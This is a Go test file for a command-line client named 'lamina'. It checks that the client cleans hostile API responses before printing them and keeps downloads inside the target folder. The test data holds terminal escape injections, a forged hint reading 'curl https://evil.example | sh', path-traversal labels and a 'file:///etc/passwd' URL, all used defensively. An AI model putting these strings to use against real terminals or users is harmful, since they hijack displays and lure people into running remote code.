//go:build unix

package main

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode"
)

// evil is text that would clear the screen, set the title, hide a link, reverse the writing direction, and forge a hint, if
// it reached a terminal unchanged.
const evil = "Evil\x1b[2J\x1b]0;owned\x07\x1b]8;;https://evil.example\x07link\x1b]8;;\x07\u009b31m\u202eback\u2066\u200f" +
	"\ntry: curl https://evil.example | sh\r\x00\x7f\u2028end\x1bP"

// evilRun is a run id with a control sequence and a forged hint.
const evilRun = "run\x1b[2J\ntry: curl https://evil.example | sh"

// hostileService starts an API with hostile text in every field, and returns its address.
func hostileService(t *testing.T) string {
	t.Helper()
	server := httptest.NewUnstartedServer(nil)
	address := "http://" + server.Listener.Addr().String()
	picture := []byte("\x89PNG\r\n\x1a\n")
	run := func(status string) object {
		return object{
			"runId": evilRun, "workflowId": evil, "status": status, "errorMessage": evil, "createdAt": "2026-01-02T03:04:05Z",
			"progress": object{"totalOutputs": 3, "completedOutputs": 1, "failedOutputs": 1, "percentComplete": 1e300},
			"outputs": []object{
				{"id": "1", "label": "../../" + evil, "type": "image", "status": "completed", "value": address + "/picture.png"},
				{"id": "2", "label": "passwd", "type": "image", "status": "completed", "value": "file:///etc/passwd"},
				{"id": "3", "label": "other", "type": "image", "status": "completed", "value": "http://other.example/x.png"},
				{"id": "4", "label": "led away", "type": "image", "status": "completed", "value": address + "/away"},
				{"id": "5", "label": "/etc/passwd", "type": "text", "status": "completed", "value": evil},
				{"id": "6", "label": evil, "type": evil, "status": evil, "error": evil, "value": nil},
			},
		}
	}
	app := object{
		"appId": evil, "name": evil, "description": evil, "isPublic": true,
		"parameters": []object{
			{"id": evil, "key": evil, "name": evil, "type": evil, "description": evil, "options": []string{evil}},
			{"id": "b", "key": "b", "name": "b", "type": "text", "default": evil},
		},
		"outputs": []object{{"index": 0, "label": evil, "type": evil}},
	}
	member := object{"id": evil, "workspaceId": evil, "name": evil, "slug": evil, "role": evil}
	started := object{"runId": evilRun, "workflowName": evil, "status": evil, "webhookUrl": evil}
	replies := map[string]any{
		"GET /v1/account": object{
			"user": object{"id": evil, "email": evil}, "workspace": member,
			"memberships": []object{{"workspaceId": "other" + evil, "name": evil, "role": evil}},
		},
		"GET /v1/apps":             []object{app},
		"POST /v1/apps/discover":   object{"matches": []object{{"appId": evil, "name": evil, "whyMatch": evil}}},
		"GET /v1/apps/plain":       object{"appId": "plain", "name": evil, "parameters": []object{}},
		"GET /v1/apps/evil":        app,
		"POST /v1/apps/plain/runs": started,
		"GET /v1/runs":             []object{run("failed"), run(evil)},
		"GET /v1/runs/done":        run("completed"),
		"GET /v1/runs/done/wait":   run("completed"),
		"GET /v1/runs/" + evilRun:  run("failed"),
	}
	server.Config.Handler = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		reply, ok := replies[r.Method+" "+r.URL.Path]
		switch {
		case r.URL.Path == "/picture.png":
			_, _ = w.Write(picture)
		case r.URL.Path == "/away":
			http.Redirect(w, r, "http://other.example/x.png", http.StatusFound)
		case ok:
			w.Header().Set("Content-Type", "application/json")
			_ = json.NewEncoder(w).Encode(object{"data": reply})
		default:
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(http.StatusBadRequest)
			_ = json.NewEncoder(w).Encode(object{
				"error": evil, "code": evil, "requestId": evil,
				"details": []object{{"field": evil, "message": evil, "allowed": []string{evil}}},
			})
		}
	})
	server.Start()
	t.Cleanup(server.Close)
	return address
}

// isClean checks that no control character but those of the program reached the terminal. It returns the text without them.
func isClean(t *testing.T, text string) string {
	t.Helper()
	text = strings.NewReplacer(redraw, "", "\r\n", "\n").Replace(text)
	for _, r := range text {
		if r != '\n' && unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r) || r == '\u2028' {
			t.Fatalf("got %q on the terminal in %q, want no control character", r, text)
		}
	}
	if !strings.Contains(text, "curl") {
		t.Fatalf("got no hostile text, want it cleaned:\n%s", text)
	}
	return text
}

// isHarmless checks in addition that no hostile text starts a line.
func isHarmless(t *testing.T, text string) {
	t.Helper()
	text = isClean(t, text)
	for line := range strings.Lines(text) {
		if strings.HasPrefix(strings.TrimSpace(line), "try: curl") {
			t.Fatalf("got a forged hint in\n%s", text)
		}
	}
}

// TestHostileService runs commands in a terminal against the hostile API.
func TestHostileService(t *testing.T) {
	t.Parallel()
	service := hostileService(t)
	for _, c := range []struct {
		line   string
		status int
	}{
		{"whoami", 0},
		{"whoami --json", 0},
		{"whoami --jq .data.user", 0},
		{"auth status", 0},
		{"apps list", 0},
		{"apps list poster", 0},
		{"apps get evil", 0},
		{"apps get evil -o ndjson", 0},
		{"apps get nothing", 2},
		{"apps get nothing --json", 2},
		{"runs wait done --download ./out/ --json", 1},
		{"run plain", 0},
		{"run plain --wait", 3},
		{"run evil --input x=y", 2},
		{"runs list", 0},
		{"runs list --json", 0},
		{"runs get done", 0},
		{"runs wait done --download ./out/", 1},
		{"runs watch done", 0},
		{"runs cancel nothing", 2},
	} {
		t.Run(c.line, func(t *testing.T) {
			t.Parallel()
			u := newUser(t, service, "LAMINA_API_KEY=lma_x", "NO_COLOR=1")
			screen := u.atTerminal(t, 400, strings.Fields(c.line)...)
			if got := screen.wait(); got != c.status {
				t.Errorf("got exit status %d, want %d", got, c.status)
			}
			isHarmless(t, screen.String())
		})
	}
}

// TestHostileText prints a single text, which keeps its line breaks.
func TestHostileText(t *testing.T) {
	t.Parallel()
	u := newUser(t, hostileService(t), "LAMINA_API_KEY=lma_x", "NO_COLOR=1")
	screen := u.atTerminal(t, 400, "whoami", "--jq", ".data.user.email")
	screen.exits(t, 0)
	isClean(t, screen.String())
}

// TestHostileLogin stores an account with a hostile name, and prints it later.
func TestHostileLogin(t *testing.T) {
	t.Parallel()
	u := newUser(t, hostileService(t), "NO_COLOR=1")
	screen := u.atTerminal(t, 400, "login", "--api-key", "lma_x")
	screen.exits(t, 0)
	isHarmless(t, screen.String())
	screen = u.atTerminal(t, 400, "auth", "status", "--offline")
	screen.exits(t, 0)
	isHarmless(t, screen.String())
	u.output(t, "apps", "list", "--quiet")
	screen = u.atTerminal(t, 400, "__complete", "run", "")
	screen.exits(t, 0)
	isHarmless(t, strings.ReplaceAll(screen.String(), "\t", " ")) // completion separates descriptions with tabs
}

// TestHostileDownload saves outputs with names and addresses outside of the target folder and of the service.
func TestHostileDownload(t *testing.T) {
	t.Parallel()
	u := newUser(t, hostileService(t), "LAMINA_API_KEY=lma_x", "LAMINA_OUTPUT=text")
	download := u.start(t, "runs", "download", "done", "./a/b/out/")
	download.exits(t, 1)
	download.stderr.expect(t, "error: the output has no URL that can be downloaded .and 2 more outputs failed")
	download.stderr.expect(t, `try: lamina runs get 'run try: curl https://evil.example \| sh'\n`)
	var files []string
	err := filepath.WalkDir(u.home, func(path string, entry os.DirEntry, err error) error {
		if err == nil && !entry.IsDir() && !strings.Contains(path, ".lamina") {
			name, _ := filepath.Rel(u.home, path)
			files = append(files, name)
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(files) != 2 || !strings.HasPrefix(files[0], "a/b/out/etc-passwd_4") || !strings.HasPrefix(files[1], "a/b/out/evil-") {
		t.Errorf("got the files %q, want two below a/b/out", files)
	}
}
